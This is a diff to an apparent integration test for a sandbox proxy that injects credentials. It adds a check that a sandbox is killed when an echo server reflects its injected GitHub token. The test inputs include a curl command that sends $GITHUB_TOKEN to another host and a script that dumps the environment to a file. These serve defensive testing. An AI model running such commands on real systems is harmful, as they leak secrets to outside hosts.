@@ -8,7 +8,7 @@ import subprocess
 import sys
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
-from harness import api, durward, nginx, peer, scene, tap  # noqa: E402
+from harness import api, durward, nginx, peer, scene, shapes, tap  # noqa: E402
 
 KEEP = """#!/bin/sh
 env > "$1.env"
@@ -60,6 +60,8 @@ def setup(t):
     for name, handler in (("hooks.example.com", hook), ("anchor.example.com", keeper),
                           ("otlp.example.com", s.receiver)):
         s.add(name, handler)
+    s.add("mirror.example.com", shapes.echo)
+    s.rule(allow="mirror.example.com", **{"with": {"bearer": "github"}})
     out = os.path.join(s.d.dir, "kept")
     keep = os.path.join(s.d.dir, "conf", "keep")
     with open(keep, "w") as f:
@@ -74,6 +76,7 @@ def setup(t):
                             {"hosts": 2, "within": "10m"},
                             {"names_refused": 8, "within": "1m", "then": "pause"},
                             {"misplaced": 1, "within": "1m", "then": "kill"},
+                            {"reflected": 1, "within": "1h", "then": "kill"},
                             {"denied": 3, "within": "1m", "then": "kill"}]}})
     s.metrics = "127.0.0.1:%d" % nginx.free_port()
     s.d.listen.append({"metrics": s.metrics})
@@ -168,6 +171,11 @@ def sandboxes(t, s, hook):
     start(s, box, "curl -s -o /dev/null -H \"X-A: $GITHUB_TOKEN\" https://deps.example.com/; sleep 5")
     t.ok(tap.wait_for(lambda: [x for x in s.d.records(kind="lifecycle", event="killed")
                                if x["target"] == box], 10, 0.1), "C7 its placeholder sent elsewhere ends it")
+    box = c.create(policy="coder")["id"]
+    start(s, box, "curl -s -o /dev/null https://mirror.example.com/; sleep 5")
+    t.ok(tap.wait_for(lambda: [x for x in s.d.records(kind="lifecycle", event="killed")
+                               if x["target"] == box], 10, 0.1),
+         "what the injector records of a credentialed request counts for its sandbox: a secret that came back ends it")
     c.close()
 
 
